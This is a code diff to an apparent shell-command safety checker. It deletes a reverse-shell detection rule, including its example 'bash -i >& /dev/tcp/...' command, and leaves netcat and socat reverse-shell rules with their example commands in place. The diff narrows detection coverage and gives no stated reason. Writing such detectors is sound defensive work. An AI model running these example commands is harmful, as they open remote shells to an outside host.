@@ -10,7 +10,7 @@ from perdure.tools.shell_safety.interpreters import SHELLS
 from perdure.tools.shell_safety.invocation import Invocation
 from perdure.tools.shell_safety.rules.rule import RiskRule, is_help
 from perdure.tools.shell_safety.rules.sending import DATA_OPTIONS, copied_paths, goes_nowhere, takes_stdin
-from perdure.tools.shell_safety.types import DOWNLOADED, SECRET, Danger, word_set
+from perdure.tools.shell_safety.types import SECRET, Danger, word_set
 
 # Programs that use a key file without printing it.
 _USES_KEYS = word_set(
@@ -86,16 +86,6 @@ def _feeds_shell(run: Invocation) -> bool:
 def _socat_shell(run: Invocation) -> bool:
     return any(re.match(r"(?i)(?:exec|system):", a) for a in run.args) and any(
         re.match(r"(?i)(?:tcp|udp|openssl|sctp)", a) for a in run.args
-    )
-
-
-def _shell_on_socket(run: Invocation) -> bool:
-    """Whether the input or output of a shell is a network connection."""
-    ends = (*run.writes, *run.reads)
-    return any(re.match(r"/dev/(?:tcp|udp)/", e) for e in ends) or (
-        run.has("-i")
-        and DOWNLOADED in (run.stdin or "")
-        and any(u in _NETCATS or u in ("telnet", "openssl") for u in run.upstream)
     )
 
 
@@ -247,9 +237,6 @@ RULES = (
         "reverse-shell", "nc ncat netcat nc.traditional nc.openbsd telnet", _netcat_shell, "nc -e /bin/sh 10.0.0.1 4444"
     ),
     RiskRule("reverse-shell", "socat", _socat_shell, "socat TCP:10.0.0.1:4444 EXEC:/bin/sh"),
-    RiskRule(
-        "reverse-shell", " ".join(sorted(SHELLS)) + " exec", _shell_on_socket, "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"
-    ),
     RiskRule(
         "reverse-shell",
         "openssl",
